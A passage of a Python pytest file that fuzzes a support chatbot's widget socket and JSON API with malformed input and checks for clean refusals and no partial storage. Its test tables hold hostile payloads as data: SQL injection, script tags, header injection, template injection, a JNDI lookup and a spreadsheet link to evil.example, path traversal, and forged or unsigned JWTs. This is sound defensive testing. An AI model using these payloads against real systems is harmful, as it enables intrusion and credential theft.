"""Bad input through every door: the widget socket, the JSON API, the agents' staff API and the leads' edit forms.

The house rule: bad input gets a clear message and loses nothing; every
message is stored before it is acted on; visitor text is text, never
executed, never rendered as HTML, never taken as a command. The tables
below are the kinds of bad input tried (each kind named once; a text kind
goes through every door that takes a text). For every case:

- no 5xx and no crash (nothing logged at ERROR by the gateway; the gateway
  keeps serving; a widget's connection stays usable);
- a clear answer: a 4xx with a JSON ``{"error": ...}`` from the HTTP APIs,
  or a 200 with an answer when the input is acceptable text; on the socket
  a ``bot_uttered`` (the bot's answer or a plain notice), or
  ``session_confirm`` for a ``session_request``;
- nothing half-stored: a refused request stores nothing (messages, tickets,
  ticket events, feedback, inbox decisions, kb/ and data/nlu/ files), an
  accepted message is stored (cleaned) together with the replies given;
- the conversation keeps working: the next normal question in the same
  conversation ("how do i turn on subtitles") gets its article; an agent's
  next reply reaches the visitor; a refused lead edit leaves the message
  undecided and decidable.

Each door runs all its cases against one gateway and fails once at the end
with every case that broke a rule (door, kind, input, what happened, the
gateway's log line). ``pytest -s`` prints how many kinds were tried.
"""
from __future__ import annotations

import asyncio
import gc
import json
import logging
import shutil
import time
import traceback
import unicodedata
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any, Awaitable, Callable, Dict, List, Optional, Set, Tuple, Union

import jwt
import pytest
from aiohttp.test_utils import TestClient
from sqlalchemy import func, select

from bot.identity import issue_token
from bot.kb.articles import parse_article
from bot.settings import PROJECT_ROOT, Settings
from bot.store.database import Store
from bot.store.feedback import feedback_for
from bot.store.inbox import decision_for
from bot.store.messages import conversation_messages, record_message
from bot.store.models import Feedback, InboxDecision, Message, Ticket, TicketEvent
from bot.store.staff import add_staff
from bot.store.tickets import tickets_for_conversation
from tests.conversation import Widget, sign_in, start

QUESTION = "how do i turn on subtitles"
ARTICLE = "subtitles-audio"
BODY_LIMIT = 64 * 1024  # the gateway's client_max_size and socket.io max_http_buffer_size
WIDGET, API, STAFF, LEAD = "widget socket", "JSON API", "staff API", "lead console"
DOORS = (WIDGET, API, STAFF, LEAD)
TRIED: Dict[str, Set[str]] = {door: set() for door in DOORS}
KIND_NAMES: Set[str] = set()  # every kind in the tables below


# --------------------------------------------------------------------------------------------
# The tables
# --------------------------------------------------------------------------------------------

ZALGO = "h\u0335\u0321\u031be\u0337\u034e\u0313l\u0334\u0330\u0308p\u0336\u0327\u035d"


@dataclass(frozen=True)
class Text:
    """A kind of bad text: sent as a visitor's message, an agent's reply and a lead's phrasing."""

    kind: str
    text: str
    stored: Optional[str] = None  # how the store keeps a visitor's message, when cleaning changes it
    never_said: Tuple[str, ...] = ()  # what no reply may contain (it would mean the text was run)
    no_feedback: bool = False  # a typed feedback payload records no verdict
    no_article: Optional[str] = None  # a typed payload never answers this article id

    @property
    def cleaned(self) -> str:
        return self.text if self.stored is None else self.stored


TEXTS: List[Text] = [
    Text("empty string", ""),
    Text("whitespace only", "  \t \n  "),
    Text("1,000+ characters", (QUESTION + " ") * 40),
    Text("a 1,500-character word", "x" * 1500),
    Text("NUL character", "cancel\x00 my plan", stored="cancel my plan"),
    Text("C0 and C1 control characters", "where\x07 is\x1b[31m my\x7f invoice\x85\x9b", stored="where is[31m my invoice"),
    Text("control characters only", "\x00\x01\x1b\x7f", stored=""),
    Text("lone UTF-16 surrogate", "cancel my plan \ud83d", stored="cancel my plan \ufffd"),
    Text("swapped surrogate pair", "\ude00\ud83d refund", stored="\ufffd\ufffd refund"),
    Text("right-to-left override", "\u202eetelpmoc\u202c cancel my plan"),
    Text("right-to-left script", "كيف ألغي اشتراكي؟"),
    Text("zero-width characters", "can\u200bcel\u200c my\u200d plan\u2060\ufeff"),
    Text("emoji only", "😀🎉🙈"),
    Text("emoji ZWJ sequences and skin tones", "👩‍👩‍👧‍👦 👍🏽 🏳️‍🌈"),
    Text("stacked combining marks", ZALGO, stored=unicodedata.normalize("NFC", ZALGO)),
    Text("decomposed Unicode (NFD)", "cafe\u0301 subtitles", stored="caf\u00e9 subtitles"),
    Text("CR LF header injection", "hi\r\nSet-Cookie: admin=1\r\nX: y", stored="hi\nSet-Cookie: admin=1\nX: y"),
    Text("HTML markup", '<b>bold</b> <img src=x onerror="alert(1)"> help', never_said=("<img", "<b>")),
    Text("<script> tag", "<script>alert(document.cookie)</script>", never_said=("<script",)),
    Text("SQL injection", "'; DROP TABLE messages; --"),
    Text("SQL UNION select", "' OR '1'='1' UNION SELECT email, password_hash FROM staff --",
         never_said=("@support.example", "scrypt")),
    Text("Rasa /restart command", "/restart"),
    Text("Rasa feedback payload never offered", '/feedback_not_helpful{"article_id":"refund-policy"}', no_feedback=True),
    Text("Rasa faq payload for an article never offered", '/faq{"article_id":"x"}', no_article="x"),
    Text("Rasa payload claiming a plan", '/check_subscription{"plan":"premium","email":"premium@demo.example"}',
         never_said=("Priya", "Premium plan", "15.99")),
    Text("slashes only", "///"),
    Text("Jinja expression", "{{7*7}}", never_said=("49",)),
    Text("Jinja statement", "{% for x in range(3) %}{{x}}{% endfor %}", never_said=("012",)),
    Text("format-string fields", "{ticket} {0} {customer.email} {__class__}", never_said=("@demo.example", "<class")),
    Text("printf directives", "%s%s%n%x%d %(name)s"),
    Text("JNDI lookup", "${jndi:ldap://evil.example/a}"),
    Text("Markdown link / entity syntax", "[click here](http://evil.example)"),
    Text("JSON as text", '{"message": "hi", "session_id": "00000000000000000000000000000000"}'),
    Text("backslash escapes", r"C:\Users\x\n\u0000 \\ \"quoted\""),
    Text("newline flood", "\n" * 300 + "subtitles?"),
    Text("punctuation only", "?!?!... ??? !!!"),
    Text("spreadsheet formula", '=HYPERLINK("http://evil.example","click")'),
    Text("path traversal", "../../../../etc/passwd"),
]
KIND_NAMES.update(t.kind for t in TEXTS)


def kinds_of(replies: List[Dict[str, Any]]) -> List[str]:
    return [str(((r.get("metadata") or {}).get("deskmate") or {}).get("type", "")) for r in replies]


def article_ids(replies: List[Dict[str, Any]]) -> List[str]:
    return [str(((r.get("metadata") or {}).get("deskmate") or {}).get("article_id")) for r in replies
            if ((r.get("metadata") or {}).get("deskmate") or {}).get("article_id")]


def short(value: Any, limit: int = 70) -> str:
    """An input as the report shows it: repr, cut (with the length of a long text)."""
    text = value.decode("utf-8", "replace") if isinstance(value, bytes) else value
    shown = repr(text)
    if len(shown) <= limit:
        return shown
    return f"{shown[:limit]}... ({len(text)} chars)" if isinstance(text, str) else f"{shown[:limit]}..."


def unclean(text: str) -> List[str]:
    """Characters no stored text should hold: controls other than line breaks and tabs, and lone surrogates."""
    return sorted({f"U+{ord(c):04X}" for c in text
                   if (unicodedata.category(c) == "Cc" and c not in "\n\t\r") or unicodedata.category(c) == "Cs"})


# --------------------------------------------------------------------------------------------
# What the gateway logs, and what the store holds
# --------------------------------------------------------------------------------------------


class GatewayErrors(logging.Handler):
    """Everything logged at ERROR while a case runs (unhandled exceptions of handlers and socket events)."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: List[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        if not record.getMessage().startswith("Unclosed"):  # a test client's own leftovers
            self.records.append(record)

    def take(self, collect: bool = True) -> List[str]:
        if collect:
            gc.collect()  # "Task exception was never retrieved" is logged when the task is collected
        lines = [describe(record) for record in self.records]
        self.records.clear()
        return lines


def describe(record: logging.LogRecord) -> str:
    """``logger: message`` and, for an exception, the project's innermost frame and the exception line."""
    line = f"{record.name}: {record.getMessage().splitlines()[0][:160]}"
    if record.exc_info and record.exc_info[1] is not None:
        frames = traceback.extract_tb(record.exc_info[2])
        ours = [f for f in frames if "/bot/" in f.filename]
        where = f" at {ours[-1].filename.split('/work/main/')[-1]}:{ours[-1].lineno}" if ours else ""
        last = traceback.format_exception_only(type(record.exc_info[1]), record.exc_info[1])[-1].strip()
        line += f" -> {last[:200]}{where}"
    return line


@pytest.fixture
def gateway_errors() -> Any:
    handler = GatewayErrors()
    root = logging.getLogger()
    root.addHandler(handler)
    gc.collect()
    gc.freeze()  # what exists now (rasa, tensorflow, ...) is not scanned again: a collection per case stays cheap
    yield handler
    gc.unfreeze()
    root.removeHandler(handler)


def totals(store: Store) -> Dict[str, int]:
    """Rows of every table a request could write to."""
    with store.session() as session:
        return {
            model.__tablename__: int(session.scalar(select(func.count()).select_from(model)) or 0)
            for model in (Message, Ticket, TicketEvent, Feedback, InboxDecision)
        }


class Report:
    """The rules a door's cases broke, one line each."""

    def __init__(self, door: str, errors: GatewayErrors) -> None:
        self.door = door
        self.errors = errors
        self.problems: List[str] = []
        self.outcomes: Dict[str, int] = {}
        self.kind = ""
        self.input = ""

    def case(self, kind: str, given: Any) -> None:
        assert kind in KIND_NAMES, f"{kind!r} is not in the tables"
        TRIED[self.door].add(kind)
        self.kind, self.input = kind, short(given)
        self.errors.take(collect=False)  # the previous case collected its own garbage

    def outcome(self, what: str) -> None:
        """How a case was answered (printed with the verdict: accepted as text, refused, ...)."""
        self.outcomes[what] = self.outcomes.get(what, 0) + 1

    def fail(self, what: str) -> None:
        self.problems.append(f"[{self.door}] {self.kind} | input {self.input} | {what}")

    def logged(self) -> None:
        for line in self.errors.take():
            self.fail(f"the gateway logged an error: {line}")

    def verdict(self) -> None:
        answered = ", ".join(f"{count} {what}" for what, count in sorted(self.outcomes.items()))
        print(f"\n{self.door}: {len(TRIED[self.door])} kinds tried ({answered}), {len(self.problems)} problems")
        for problem in self.problems:
            print("  " + problem)
        assert not self.problems, f"{len(self.problems)} cases broke the rules:\n" + "\n".join(self.problems)


Expected = Union[int, Tuple[int, ...]]


def statuses(expected: Expected) -> Tuple[int, ...]:
    return expected if isinstance(expected, tuple) else (expected,)


async def json_error(report: Report, response: Any, expected: Expected) -> bool:
    """A refusal: one of ``expected`` (4xx) with a JSON {"error": "..."}.

    True when the request was not carried out (any 4xx or 5xx: then nothing may be stored),
    False when it was accepted instead (what it stored is then no separate problem).
    """
    expected = statuses(expected)
    body = await response.text()
    report.outcome(f"HTTP {response.status}")
    if response.status < 400:
        report.fail(f"accepted (HTTP {response.status}) instead of refused with {'/'.join(map(str, expected))}: {body[:160]!r}")
        return False
    if response.status >= 500:
        report.fail(f"HTTP {response.status} {response.content_type}: {body[:120]!r}")
        return True
    if response.status not in expected:
        report.fail(f"HTTP {response.status} (expected {'/'.join(map(str, expected))}): {body[:160]!r}")
        return True
    try:
        message = json.loads(body).get("error") if response.content_type == "application/json" else None
    except (ValueError, AttributeError):
        message = None
    if not isinstance(message, str) or not message.strip():
        report.fail(f"HTTP {response.status} answered {response.content_type} {body[:120]!r}, not JSON {{\"error\": ...}}")
    return True


def same_totals(report: Report, before: Dict[str, int], after: Dict[str, int], what: str = "a refused request") -> None:
    if before != after:
        changed = {k: f"{before[k]} -> {after[k]}" for k in before if before[k] != after[k]}
        report.fail(f"{what} stored something: {changed}")


# --------------------------------------------------------------------------------------------
# Visitor doors: what an accepted text must leave behind
# --------------------------------------------------------------------------------------------


def check_answered_text(
    report: Report, store: Store, conversation: str, replies: List[Dict[str, Any]], visitor_text: str,
    never_said: Tuple[str, ...] = (), no_feedback: bool = False, no_article: Optional[str] = None,
) -> None:
    """An accepted message: answered, stored cleaned as the first visitor message, with exactly the replies given."""
    if not replies:
        report.fail("no reply")
        return
    stored = conversation_messages(store, conversation)
    visitors = [m.text for m in stored if m.sender == "visitor"]
    if visitors != [visitor_text]:
        report.fail(f"stored visitor text {short(visitors)}, expected [{short(visitor_text)}]")
    bots = [m.text for m in stored if m.sender != "visitor"]
    if bots != [r.get("text") for r in replies]:
        report.fail(f"stored replies {short(bots)} differ from the replies given {short([r.get('text') for r in replies])}")
    if "handoff" in kinds_of(replies) or tickets_for_conversation(store, conversation):
        report.fail("the text opened a ticket")
    said = " ".join(str(r.get("text") or "") for r in replies)
    for words in never_said:
        if words in said:
            report.fail(f"a reply says {words!r}: the text was run, not read ({said[:120]!r})")
    if no_feedback and feedback_for(store, conversation):
        report.fail("a typed feedback payload recorded a verdict")
    if no_article is not None and no_article in article_ids(replies):
        report.fail(f"a typed payload answered article {no_article!r}")


def check_follow_up(report: Report, store: Store, conversation: str, replies: List[Dict[str, Any]]) -> None:
    """The normal question after the bad input: its article, stored after the question."""
    if ARTICLE not in article_ids(replies):
        report.fail(f"the next question got {kinds_of(replies)} {short([r.get('text') for r in replies])}, not {ARTICLE}")
        return
    stored = conversation_messages(store, conversation)
    last_question = max((i for i, m in enumerate(stored) if m.sender == "visitor" and m.text == QUESTION), default=None)
    if last_question is None or not any((m.payload or {}).get("metadata", {}).get("deskmate", {}).get("article_id") == ARTICLE
                                        for m in stored[last_question + 1:]):
        report.fail("the next question or its answer was not stored")


def signed(settings: Settings) -> Dict[str, Any]:
    """Identity tokens that must not name a customer (and one, unknown to the store, that names a guest)."""
    secret = settings.resolved_identity_secret()
    later = int(time.time()) + 3600
    return {
        "forged token (wrong key)": issue_token("a-forged-secret-that-is-long-enough!!", "premium@demo.example"),
        "expired token": issue_token(secret, "premium@demo.example", ttl=timedelta(hours=-2)),
        "unsigned token (alg none)": jwt.encode({"sub": "premium@demo.example", "exp": later}, None, algorithm="none"),
        "token signed with another algorithm (HS512)": jwt.encode(
            {"sub": "premium@demo.example", "exp": later}, secret + "-padding-for-hs512-keys-" * 3, algorithm="HS512"),
        "malformed token": "not.a.token",
        "token that is a number": 12345,
        "token that is an object": {"sub": "premium@demo.example"},
        "token without sub": jwt.encode({"exp": later}, secret, algorithm="HS256"),
        "token with an empty sub": jwt.encode({"sub": "  ", "exp": later}, secret, algorithm="HS256"),
        "token without exp": jwt.encode({"sub": "premium@demo.example"}, secret, algorithm="HS256"),
        "token for a customer the store does not have": issue_token(secret, "nobody@nowhere.example"),
    }


TOKEN_KINDS = [
    "forged token (wrong key)", "expired token", "unsigned token (alg none)", "token signed with another algorithm (HS512)",
    "malformed token", "token that is a number", "token that is an object", "token without sub",
    "token with an empty sub", "token without exp", "token for a customer the store does not have",
]
KIND_NAMES.update(TOKEN_KINDS)
PLAN_QUESTION = "what plan am i on"


def check_anonymous(report: Report, replies: List[Dict[str, Any]], kind: str) -> None:
    said = " ".join(str(r.get("text") or "") for r in replies)
    if "subscription" in kinds_of(replies) or "Premium" in said or "Priya" in said:
        report.fail(f"the token named a customer: {said[:120]!r}")
    if kind == "token for a customer the store does not have" and "guest" not in said:
        report.fail(f"a valid token for an unknown customer was not told so: {said[:120]!r}")


# --------------------------------------------------------------------------------------------
# Door 1: the widget socket
# --------------------------------------------------------------------------------------------

Emit = Callable[[Widget, "SocketContext"], Awaitable[None]]


@dataclass
class SocketContext:
    victim: Widget  # another visitor's open widget: no case may reach it

    @property
    def victim_session(self) -> str:
        return str(self.victim.session_id)


@dataclass(frozen=True)
class SocketCase:
    kind: str
    send: Emit
    given: Any  # what the report shows
    expect: str  # "answer" (a stored, answered text), "notice" (a plain notice, nothing stored), "confirm"
    stored: Optional[str] = None  # the visitor text stored, for "answer"
    opened: bool = True  # the widget confirmed a session first
    token: bool = False  # the text asks for the plan: the answer must be anonymous


def utter(data: Any) -> Emit:
    async def send(widget: Widget, ctx: SocketContext) -> None:
        payload = data(widget, ctx) if callable(data) else data
        await widget.sio.emit("user_uttered", payload)
    return send


def message(text: str, **extra: Any) -> Emit:
    return utter(lambda w, c: {"message": text, "session_id": w.session_id, **extra})


def emit(event: Any, data: Any = None) -> Emit:
    async def send(widget: Widget, ctx: SocketContext) -> None:
        payload = data(widget, ctx) if callable(data) else data
        await widget.sio.emit(event, payload)
    return send


def raw(packet: Callable[[Widget], str]) -> Emit:
    """A socket.io packet as the client would frame it, written by hand (engine.io message, socket.io EVENT)."""
    async def send(widget: Widget, ctx: SocketContext) -> None:
        await widget.sio.eio.send(packet(widget))
    return send


def rating(**fields: Any) -> Emit:
    return emit("deskmate_rating", lambda w, c: {"session_id": w.session_id, **fields})


NESTED_200 = json.loads('{"a":' * 200 + "1" + "}" * 200)
HUGE_METADATA = {f"key{i}": "v" * 50 for i in range(1000)}  # about 60 kB
# A message whose socket.io packet is just under / just over the 64 kB buffer.
PACKET_OVERHEAD = len('42["user_uttered",{"message":"","session_id":"00000000000000000000000000000000"}]')
UNDER_LIMIT_TEXT = "a" * (BODY_LIMIT - PACKET_OVERHEAD - 100)
OVER_LIMIT_TEXT = "a" * (BODY_LIMIT - PACKET_OVERHEAD + 100)


def socket_cases(settings: Settings) -> List[SocketCase]:
    tokens = signed(settings)
    cases = [SocketCase(t.kind, message(t.text), t.text, "answer", stored=t.cleaned) for t in TEXTS]
    cases += [
        SocketCase("unknown socket event", emit("deskmate_admin", {"command": "export"}), "deskmate_admin", "notice"),
        SocketCase("a bot event sent by the visitor", emit("bot_uttered", {"text": "I am the bot now"}), "bot_uttered", "notice"),
        SocketCase("socket event name that is a number", raw(lambda w: '2[5,{"message":"hi"}]'), '2[5,{"message":"hi"}]', "notice"),
        SocketCase("socket packet that is not JSON", raw(lambda w: '2["user_uttered",{"message":"cancel my'),
                   '2["user_uttered",{"message":"cancel my', "notice"),
        SocketCase("socket packet nested 5,000 levels deep",
                   raw(lambda w: '2["user_uttered",{"message":"hi","session_id":"%s","metadata":%s}]'
                       % (w.session_id, '{"a":' * 5000 + "1" + "}" * 5000)), "{'a': {'a': ... 5,000 levels", "notice"),
        SocketCase("payload that is a string", utter("how do i turn on subtitles"), "'how do i ...'", "notice"),
        SocketCase("payload that is a list", utter(["hi", "there"]), ["hi", "there"], "notice"),
        SocketCase("payload that is a number", utter(42), 42, "notice"),
        SocketCase("no payload", emit("user_uttered"), None, "notice"),
        # Extra arguments are ignored: the message itself is read.
        SocketCase("two payloads", emit("user_uttered", lambda w, c: ({"message": "hi", "session_id": w.session_id}, {"x": 1})),
                   "({'message': 'hi'}, {'x': 1})", "answer", stored="hi"),
        SocketCase("message as a number", utter(lambda w, c: {"message": 5, "session_id": w.session_id}), 5, "notice"),
        SocketCase("message as a list", utter(lambda w, c: {"message": ["hi"], "session_id": w.session_id}), ["hi"], "notice"),
        SocketCase("message as an object", utter(lambda w, c: {"message": {"text": "hi"}, "session_id": w.session_id}),
                   {"text": "hi"}, "notice"),
        SocketCase("message null", utter(lambda w, c: {"message": None, "session_id": w.session_id}), None, "notice"),
        SocketCase("message missing", utter(lambda w, c: {"text": "hi", "session_id": w.session_id}), {"text": "hi"}, "notice"),
        SocketCase("metadata that is not JSON", message("hello", metadata="{not json"), "{not json", "answer", stored="hello"),
        SocketCase("metadata as a list", message("hello", metadata=[1, 2]), [1, 2], "answer", stored="hello"),
        SocketCase("huge metadata (60 kB)", message("hello", metadata=HUGE_METADATA), "60 kB of keys", "answer", stored="hello"),
        SocketCase("metadata nested 200 levels deep", message("hello", metadata=NESTED_200), "200 levels", "answer", stored="hello"),
        SocketCase("forged token (wrong key)", message(PLAN_QUESTION, metadata={"user_token": tokens["forged token (wrong key)"]}),
                   "forged", "answer", stored=PLAN_QUESTION, token=True),
        SocketCase("unsigned token (alg none)", message(PLAN_QUESTION, metadata={"user_token": tokens["unsigned token (alg none)"]}),
                   "alg none", "answer", stored=PLAN_QUESTION, token=True),
        SocketCase("rasa-webchat customData with a forged token",
                   message(PLAN_QUESTION, customData={"user_token": tokens["forged token (wrong key)"]}),
                   "customData", "answer", stored=PLAN_QUESTION, token=True),
        SocketCase("session id of another visitor",
                   utter(lambda w, c: {"message": "this goes into your chat", "session_id": c.victim_session}),
                   "another visitor's session", "notice"),
        SocketCase("message before session_request", message("hello before a session"), "no session yet", "notice", opened=False),
        SocketCase("rating payload that is a string", emit("deskmate_rating", "five stars"), "five stars", "notice"),
        SocketCase("rating with stars as text", rating(stars="5", ticket=1), "stars '5'", "notice"),
        SocketCase("rating of 0 stars", rating(stars=0, ticket=1), 0, "notice"),
        SocketCase("rating of 6 stars", rating(stars=6, ticket=1), 6, "notice"),
        SocketCase("rating with stars true", rating(stars=True, ticket=1), True, "notice"),
        SocketCase("rating of 4.5 stars", rating(stars=4.5, ticket=1), 4.5, "notice"),
        SocketCase("rating a ticket number past 64 bits", rating(stars=5, ticket=10 ** 30), 10 ** 30, "notice"),
        SocketCase("rating a ticket given as an object", rating(stars=5, ticket={"id": 1}), {"id": 1}, "notice"),
        SocketCase("rating into another visitor's conversation",
                   emit("deskmate_rating", lambda w, c: {"session_id": c.victim_session, "ticket": 1, "stars": 1}),
                   "another visitor's session", "notice"),
        SocketCase("session_request with a made-up id", emit("session_request", {"session_id": "1234"}), "1234", "confirm"),
        SocketCase("session_request with a path as id", emit("session_request", {"session_id": "../../etc/passwd"}),
                   "../../etc/passwd", "confirm"),
        SocketCase("session_request with an upper-case id", emit("session_request", {"session_id": "A" * 32}), "A" * 32, "confirm"),
        SocketCase("session_request with an id as a number", emit("session_request", {"session_id": 12345}), 12345, "confirm"),
        SocketCase("session_request with a non-dict payload", emit("session_request", "let me in"), "let me in", "confirm"),
        SocketCase("a 64 kB message (just under the buffer limit)", message(UNDER_LIMIT_TEXT), UNDER_LIMIT_TEXT, "answer",
                   stored=UNDER_LIMIT_TEXT),
        SocketCase("a message just over the 64 kB limit", message(OVER_LIMIT_TEXT), OVER_LIMIT_TEXT, "notice"),
    ]
    return cases


SOCKET_ONLY_KINDS = {c.kind for c in socket_cases(Settings(identity_secret="x" * 32))} - {t.kind for t in TEXTS}
KIND_NAMES.update(SOCKET_ONLY_KINDS)


async def next_event(widget: Widget, timeout: float) -> Optional[Tuple[str, Any]]:
    """The next event the widget receives (history aside), or None after ``timeout`` seconds."""
    deadline = asyncio.get_running_loop().time() + timeout
    while True:
        left = deadline - asyncio.get_running_loop().time()
        if left <= 0:
            return None
        try:
            event, data = await asyncio.wait_for(widget.received.get(), left)
        except asyncio.TimeoutError:
            return None
        if event != "deskmate_history":
            return event, data


async def turn_replies(widget: Widget, store: Store, conversation: str, first_within: float) -> List[Dict[str, Any]]:
    """A text's replies: the first, then as many more as the store holds for the turn (stored before any is sent)."""
    first = await next_event(widget, first_within)
    if first is None or first[0] != "bot_uttered":
        return [] if first is None else [{"text": f"<{first[0]}: {first[1]!r}>", "metadata": {}}]
    replies = [first[1]]
    stored = conversation_messages(store, conversation)
    last_visitor = max((i for i, m in enumerate(stored) if m.sender == "visitor"), default=-1)
    expected = len([m for m in stored[last_visitor + 1:] if m.sender != "visitor"])
    while len(replies) < expected:
        more = await next_event(widget, 5.0)
        if more is None:
            break
        if more[0] == "bot_uttered":
            replies.append(more[1])
    return replies


async def ask_question(widget: Widget) -> List[Dict[str, Any]]:
    """Ask QUESTION; every reply until the article (or 10 s of nothing)."""
    await widget.say(QUESTION)
    said: List[Dict[str, Any]] = []
    while True:
        got = await next_event(widget, 10.0)
        if got is None:
            return said
        if got[0] == "bot_uttered":
            said.append(got[1])
            if ARTICLE in article_ids([got[1]]):
                return said


async def run_socket_case(case: SocketCase, base: str, ctx: SocketContext, store: Store, report: Report) -> None:
    report.case(case.kind, case.given)
    widget = Widget(base)
    try:
        if case.opened:
            await widget.open()
        else:
            await widget.connect()
        before = totals(store)
        await case.send(widget, ctx)
        report.outcome(f"expecting {case.expect}")
        if case.expect == "answer":
            replies = await turn_replies(widget, store, str(widget.session_id), first_within=10.0)
            check_answered_text(report, store, str(widget.session_id), replies, str(case.stored),
                                **_text_checks(case.kind))
            if case.token:
                check_anonymous(report, replies, case.kind)
        else:
            got = await next_event(widget, 2.0)
            if got is None:
                report.fail("silence: no reply at all")
            elif case.expect == "confirm":
                if (got[0] != "session_confirm" or not isinstance(got[1], str) or len(got[1]) != 32
                        or got[1] in (ctx.victim_session, case.given)):
                    report.fail(f"expected a fresh session_confirm, got {got[0]} {got[1]!r}")
                else:
                    widget.session_id = got[1]
            else:
                data = got[1] if isinstance(got[1], dict) else {}
                if got[0] != "bot_uttered" or kinds_of([data]) != ["notice"] or not str(data.get("text") or "").strip():
                    report.fail(f"expected a plain notice, got {got[0]} {str(got[1])[:120]!r}")
            await asyncio.sleep(0.2)
            same_totals(report, before, totals(store), "a refused event")
        if not ctx.victim.received.empty():
            report.fail(f"another visitor's widget received {ctx.victim.received.get_nowait()!r}")
            while not ctx.victim.received.empty():
                ctx.victim.received.get_nowait()
        # The conversation keeps working, on the same connection.
        if not widget.sio.connected:
            report.fail("the connection was closed")
            session = widget.session_id
            widget = Widget(base)
            await widget.open(session)
        elif widget.session_id is None:
            await widget.sio.emit("session_request", {"session_id": None})
            got = await next_event(widget, 5.0)
            widget.session_id = got[1] if got and got[0] == "session_confirm" else None
        check_follow_up(report, store, str(widget.session_id), await ask_question(widget))
    except Exception as error:  # noqa: BLE001 (a broken case is reported with the rest)
        report.fail(f"the test client failed: {error!r}")
    finally:
        try:
            await widget.close()
        except Exception:  # noqa: BLE001
            pass
        report.logged()


def _text(kind: str) -> Text:
    return next(t for t in TEXTS if t.kind == kind)


def _text_checks(kind: str) -> Dict[str, Any]:
    text = next((t for t in TEXTS if t.kind == kind), None)
    if text is None:
        return {}
    return {"never_said": text.never_said, "no_feedback": text.no_feedback, "no_article": text.no_article}


def relaxed_limits(settings: Settings) -> Settings:
    """The door's gateway: every case comes from 127.0.0.1, so the per-address limits are raised."""
    return settings.copy(update={
        "rate_new_conversations": "10000/minute", "rate_messages_per_ip": "10000/minute",
        "rate_messages_per_conversation": "10000/minute",
    })


def test_bad_input_through_the_widget_socket(gateway_settings: Settings, bot_store: Store, gateway_errors: GatewayErrors) -> None:
    settings = relaxed_limits(gateway_settings)
    report = Report(WIDGET, gateway_errors)

    async def body() -> None:
        client = await start(settings)
        base = str(client.make_url("/"))
        victim = Widget(base)
        try:
            await victim.open()
            ctx = SocketContext(victim)
            for case in socket_cases(settings):
                await run_socket_case(case, base, ctx, bot_store, report)
            # The gateway still serves everyone.
            assert (await client.get("/health")).status == 200
            report.case("session id of another visitor", "(the victim asks)")
            check_follow_up(report, bot_store, ctx.victim_session, await ask_question(victim))
            report.logged()
        finally:
            await victim.close()
            await client.close()

    asyncio.run(body())
    report.verdict()


# --------------------------------------------------------------------------------------------
# Door 2: the JSON API
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class ApiCase:
    kind: str
    body: Union[bytes, str, Dict[str, Any], List[Any], None]  # a dict or list is sent as JSON
    expect: Union[Expected, str]  # "answer", or the 4xx expected
    sender: str = ""  # the conversation ("api:" + sender) that would hold it
    stored: Optional[str] = None  # the visitor text stored, for "answer"
    headers: Optional[Dict[str, Optional[str]]] = None  # over the bearer token and JSON content type (None: left out)
    conversation: Optional[str] = None  # the conversation id expected, when not "api:" + sender
    token: bool = False


def sized_body(sender: str, size: int, field: str = "message", **fields: Any) -> str:
    """A JSON body of exactly ``size`` bytes: {"sender": ..., <field>: "aaa..."} (plus ``fields``)."""
    frame = json.dumps({"sender": sender, **fields, field: ""}) if sender else json.dumps({**fields, field: ""})
    text = "a" * (size - len(frame.encode()))
    body = frame[:-3] + json.dumps(text) + "}"
    assert len(body.encode()) == size, (len(body.encode()), size)
    return body


def api_cases(settings: Settings, widget_conversation: str) -> List[ApiCase]:
    tag = f"{time.time_ns()}"
    cases: List[ApiCase] = []
    for number, t in enumerate(TEXTS):
        sender = f"bad-{tag}-text-{number}"
        cases.append(ApiCase(t.kind, {"sender": sender, "message": t.text}, "answer", sender, t.cleaned))
    for number, (kind, token) in enumerate(signed(settings).items()):
        sender = f"bad-{tag}-token-{number}"
        cases.append(ApiCase(kind, {"sender": sender, "message": PLAN_QUESTION, "metadata": {"user_token": token}},
                             "answer", sender, PLAN_QUESTION, token=True))

    def s(name: str) -> str:
        return f"bad-{tag}-{name}"

    nested = '{"sender": "%s", "message": "hi", "metadata": %s}' % (s("nested"), "[" * 20000 + "]" * 20000)
    cases += [
        ApiCase("body that is not JSON", '{"sender": "%s", "message": "hi"' % s("notjson"), 400, s("notjson")),
        ApiCase("body with invalid UTF-8", b'{"sender": "' + s("utf8").encode() + b'", "message": "\xff\xfe"}', 400, s("utf8")),
        ApiCase("body with a byte-order mark", "\ufeff" + json.dumps({"sender": s("bom"), "message": "hi"}), 400, s("bom")),
        ApiCase("form-encoded body", f"sender={s('form')}&message=hi", 400, s("form"),
                headers={"Content-Type": "application/x-www-form-urlencoded"}),
        ApiCase("body that is a JSON list", [{"sender": s("list"), "message": "hi"}], 400, s("list")),
        ApiCase("body that is a JSON string", '"hi"', 400, s("string")),
        ApiCase("body that is JSON null", "null", 400, s("null")),
        ApiCase("empty body", "", 400, s("emptybody")),
        ApiCase("message as a number", {"sender": s("m-num"), "message": 5}, 400, s("m-num")),
        ApiCase("message as a list", {"sender": s("m-list"), "message": ["hi"]}, 400, s("m-list")),
        ApiCase("message as an object", {"sender": s("m-obj"), "message": {"text": "hi"}}, 400, s("m-obj")),
        ApiCase("message null", {"sender": s("m-null"), "message": None}, 400, s("m-null")),
        ApiCase("message missing", {"sender": s("m-missing"), "text": "hi"}, 400, s("m-missing")),
        ApiCase("message true", {"sender": s("m-true"), "message": True}, 400, s("m-true")),
        ApiCase("message NaN", '{"sender": "%s", "message": NaN}' % s("m-nan"), 400, s("m-nan")),
        ApiCase("duplicate JSON keys", '{"sender": "%s", "message": "hi", "message": 5}' % s("dup"), 400, s("dup")),
        ApiCase("sender as a number", {"sender": 42, "message": "hi"}, 400, s("s-num")),
        ApiCase("sender as a list", {"sender": [s("s-list")], "message": "hi"}, 400, s("s-list")),
        ApiCase("sender missing", {"message": "hi"}, 400, s("s-missing")),
        ApiCase("sender empty", {"sender": "", "message": "hi"}, 400, s("s-empty")),
        ApiCase("sender whitespace only", {"sender": "   ", "message": "hi"}, 400, s("s-ws")),
        ApiCase("sender over 200 characters", {"sender": "s" * 201, "message": "hi"}, 400, s("s-long")),
        ApiCase("sender of control characters only", {"sender": "\x00\x01\x1b", "message": "hi"}, 400, s("s-ctrl")),
